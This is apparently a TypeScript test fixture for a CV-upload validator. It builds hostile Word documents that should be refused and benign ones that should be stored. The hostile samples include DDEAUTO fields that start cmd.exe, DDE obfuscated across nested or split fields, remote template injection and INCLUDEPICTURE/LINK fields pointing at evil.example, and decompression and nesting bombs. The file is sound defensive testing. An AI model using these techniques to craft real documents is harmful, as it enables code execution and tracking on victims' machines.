import { docxOf, oleOf } from '../sample-files.ts';
import { damaged, type HostileFile } from './hostile-file.ts';

const macros = { refused: /macros/ };
const loading = { refused: /loads parts of it from elsewhere/ };
const stored = { type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' };

/** A document whose settings have a relationship. */
const relatedTo = (
  target: string,
  type = 'attachedTemplate',
  name = 'word/_rels/settings.xml.rels',
) =>
  docxOf({
    name,
    content:
      '<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Id="a>b" ' +
      `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ` +
      `Target='${target}' TargetMode="External"/></Relationships>`,
  });

/** A document with a part that Word embeds. */
const embedding = (type: string) =>
  docxOf({
    name: 'word/_rels/document.xml.rels',
    content:
      '<Relationships><Relationship Id="a" Target="embeddings/a.bin" ' +
      `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"/></Relationships>`,
  });

/** A document with this text in its header. */
const headed = (content: string) =>
  docxOf({ name: 'word/header1.xml', content: `<w:hdr><w:p>${content}</w:p></w:hdr>` });

const mark = (type: string) => `<w:fldChar w:fldCharType="${type}"/>`;
const code = (text: string) => `<w:instrText>${text}</w:instrText>`;
const begin = mark('begin');
const end = mark('end');
/** A field nested in the code of another one, with its result. */
const within = `${begin}${code('QUOTE 1')}${mark('separate')}${code('1')}${end}`;
/** A field with this content in its code. */
const around = (content: string) => `${begin}${content}${mark('separate')}<w:t>1</w:t>${end}`;
/** A field that computes a part of the outer field's code. */
const quoting = (text: string) => around(code(`QUOTE "${text}"`));

/** Word documents that would run or load something when they are opened. */
export const activeDocuments: HostileFile[] = [
  [
    'cv_document',
    'a document with macros',
    'a.docx',
    docxOf({ name: 'word/vbaProject.bin', content: '' }),
    macros,
  ],
  [
    'cv_document',
    'a Word 97 document with macros',
    'a.doc',
    oleOf('WordDocument', '_VBA_PROJECT'),
    macros,
  ],
  [
    'cv_document',
    'a template on the web',
    'a.docx',
    relatedTo('https://evil.example/a.dotm'),
    loading,
  ],
  [
    'cv_document',
    'a template on a network share',
    'a.docx',
    relatedTo('\\\\evil.example\\a\\a.dotm'),
    loading,
  ],
  [
    'cv_document',
    'a template with a file:// URL',
    'a.docx',
    relatedTo('file://evil.example/a.dotm'),
    loading,
  ],
  [
    'cv_document',
    'a remote picture',
    'a.docx',
    relatedTo('http://evil.example/a', 'image'),
    loading,
  ],
  [
    'cv_document',
    'a template with an encoded URL and an upper-case path',
    'a.docx',
    relatedTo('&#x68;ttp&#58;//evil.example/a', 'attachedTemplate', 'WORD/_RELS/a.RELS'),
    loading,
  ],
  [
    'cv_document',
    'a list of relationships in UTF-16',
    'a.docx',
    docxOf({
      name: 'word/_rels/a.rels',
      content: Buffer.from('\ufeff<Relationships/>', 'utf16le'),
    }),
    damaged,
  ],
  [
    'cv_document',
    'a list of relationships with entities',
    'a.docx',
    docxOf({ name: '_rels/.rels', content: '<!DOCTYPE a [<!ENTITY e "External">]><a/>' }),
    damaged,
  ],
  [
    'cv_document',
    'a list of relationships that expands',
    'a.docx',
    docxOf({ name: '_rels/.rels', content: ' '.repeat(2 * 1024 * 1024) }),
    damaged,
  ],
  [
    'cv_document',
    'a list of relationships that is larger than declared',
    'a.docx',
    docxOf({ name: '_rels/.rels', content: ' '.repeat(100_000), claimedSize: 10 }),
    damaged,
  ],
  ...['oleObject', 'control', 'aFChunk', 'attachedToolbars'].map(
    (type): HostileFile => [
      'cv_document',
      `a document with a part of the type ${type}`,
      'a.docx',
      embedding(type),
      { refused: /an embedded object/ },
    ],
  ),
  ...[
    ['a field that starts a program', '<w:instrText> DDEAUTO c:\\cmd.exe </w:instrText>'],
    [
      'such a field in pieces',
      '<w:instrText xml:space="preserve">D</w:instrText><w:r/><w:instrText>&#68;E "cmd"</w:instrText>',
    ],
    ['such a field in other letters', "<x:fldSimple x:instr='&quot;&quot; dde cmd'/>"],
    ['such a field around another', `${begin}${code('DD')}${within}${code('E cmd')}${end}`],
    ['such a field within another', `${begin}${code('IF 1 = ')}${begin}${code('DDE cmd')}${end}`],
    ['a field whose kind another one decides', `${begin}${within}${code(' cmd')}${end}`],
    [
      'a field whose kind a short one decides',
      around(`${code('DD')}<w:fldSimple w:instr="QUOTE E"/>${code(' cmd')}`),
    ],
  ].map(
    ([what, content = '']): HostileFile => [
      'cv_document',
      `a document with ${what}`,
      'a.docx',
      headed(content),
      { refused: /a field that starts a program/ },
    ],
  ),
  ...[
    'INCLUDEPICTURE "https://evil.example/a.png" \\d',
    'INCLUDEPICTURE \\\\\\\\evil\\\\a.png',
    'INCLUDE https://evil.example/a.docx',
    'INCLUDETEXT "\\\\\\\\evil\\\\a.docx"',
    'import "https://evil.example/a.png"',
    'LINK Word.Document.12 "https://evil.example/a.docx" \\a',
    'RD "https://evil.example/a.docx"',
    'DATABASE \\c "DSN=a;Server=evil.example" \\s "SELECT 1"',
  ].map(
    (text): HostileFile => [
      'cv_document',
      `a document with the field ${text}`,
      'a.docx',
      headed(around(code(` ${text} \\* MERGEFORMATINET`))),
      loading,
    ],
  ),
  ...[
    [
      'the address of a picture',
      around(code('INCLUDEPICTURE ') + quoting('https://evil.example/a.png')),
    ],
    [
      'the end of an address',
      around(`${code('LINK Word.Document.12 "C:\\\\a')}${quoting('" "https://evil.example/a')}`),
    ],
    [
      'the address of a picture in a short field',
      around(`${code('INCLUDEPICTURE "')}<w:fldSimple w:instr="QUOTE a"/>${code('"')}`),
    ],
    [
      'the kind of a field that loads a picture',
      around(code('INCL') + quoting('UDEPICTURE') + code(' "https://evil.example/a.png"')),
    ],
    ['the kind of a field that loads a text', around(code('"R') + quoting('D') + code('" a.docx'))],
  ].map(
    ([what, content = '']): HostileFile => [
      'cv_document',
      `a document where a field computes ${what}`,
      'a.docx',
      headed(content),
      loading,
    ],
  ),
  [
    'cv_document',
    'a document with 200,000 nested fields',
    'a.docx',
    () => headed(`${begin}${mark('separate')}`.repeat(200_000)),
    damaged,
  ],
  [
    'cv_document',
    'a document with a field mark with millions of attributes',
    'a.docx',
    () => headed(`<w:fldChar${' a=""'.repeat(2_000_000)}/>`),
    damaged,
  ],
  [
    'cv_document',
    'a document with an unterminated field mark',
    'a.docx',
    () => headed(`<w:instrText ${'a'.repeat(10_000_000)}`),
    damaged,
  ],
  [
    'cv_document',
    'a document with 200,000 fields inside a long one',
    'a.docx',
    () => headed(around(code(`A${' '.repeat(1_000_000)}`) + `${begin}${end}`.repeat(200_000))),
    stored,
  ],
  [
    'cv_document',
    'a document whose text is larger than declared',
    'a.docx',
    docxOf({ name: 'word/a.xml', content: ' '.repeat(100_000), claimedSize: 10 }),
    damaged,
  ],
  [
    'cv_document',
    'a document whose text expands',
    'a.docx',
    docxOf({ name: 'word/a.xml', content: ' '.repeat(70 * 1024 * 1024) }),
    { refused: /too large when unpacked/ },
  ],
  [
    'cv_document',
    'a document with nested fields and a local picture',
    'a.docx',
    headed(
      `${begin}${code('IF ')}${within}${code(' = 1')}${mark('separate')}${within}${end}` +
        `${begin}${code('INCLUDEPICTURE "C:\\\\a.png" \\* MERGEFORMAT')}${end}`,
    ),
    stored,
  ],
  ...[
    ['pages', 'PAGE'],
    ['a table of contents', 'TOC \\o "1-3" \\h \\z \\u'],
    ['a link', 'HYPERLINK "https://ana.test/cv"'],
    ['a reference', 'REF _Ref1 \\h'],
    ['an imported name', 'MERGEFIELD IMPORT'],
    ['the name of a database', 'MERGEFIELD "DATABASE"'],
    ['a date', 'DATE \\@ "d MMMM yyyy"'],
    ['links', 'LINKS'],
    ['a picture of its author', 'INCLUDEPICTURE "C:\\\\Users\\\\Ana\\\\a.png" \\d'],
    ['a text next to it', 'INCLUDETEXT "a.docx"'],
    ['a table of its author', 'LINK Excel.Sheet.12 "C:\\\\Ana\\\\a.xlsx" "a" \\a \\h'],
    ['a citation', `ADDIN ZOTERO_ITEM CSL_CITATION {"a":"${'https://ana.test/ '.repeat(5000)}"}`],
  ].map(
    ([what, text = '']): HostileFile => [
      'cv_document',
      `a document with a field for ${what}`,
      'a.docx',
      headed(around(code(` ${text} `))),
      stored,
    ],
  ),
  [
    'cv_document',
    'a document with links in its table of contents, and nested fields',
    'a.docx',
    headed(
      `${begin}${code('TOC \\h')}${mark('separate')}` +
        around(code('HYPERLINK \\l "a"') + mark('separate') + around(code('PAGEREF a'))).repeat(
          300,
        ) +
        end +
        around(`${code('IF ')}${around(code('MERGEFIELD a'))}${code(' = "" "" ')}${quoting('a')}`) +
        around(
          `${code('HYPERLINK "https://ana.test/')}${around(code('MERGEFIELD a'))}${code('"')}`,
        ) +
        around(`${code('DATE \\@ ')}<w:fldSimple w:instr="MERGEFIELD a"/>`),
    ),
    stored,
  ],
  [
    'cv_document',
    'a document with page numbers, a chart and the word DDE',
    'a.docx',
    docxOf(
      {
        name: 'word/footer1.xml',
        content:
          '<w:ftr><w:t>DDE</w:t><w:instrText>PAGE</w:instrText><w:fldSimple w:instr="DATE"/></w:ftr>',
      },
      {
        name: 'word/charts/_rels/chart1.xml.rels',
        content:
          '<Relationships><Relationship Id="a" Target="../embeddings/a.xlsx" ' +
          'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package"/></Relationships>',
      },
    ),
    stored,
  ],
  [
    'cv_document',
    'a document with a link',
    'a.docx',
    relatedTo('https://ana.test', 'hyperlink'),
    stored,
  ],
  [
    'cv_document',
    'a local template',
    'a.docx',
    relatedTo('file:///C:\\Users\\Ana\\CV.dotx'),
    stored,
  ],
  ['cv_document', 'the default template', 'a.docx', relatedTo('Normal.dotm'), stored],
];
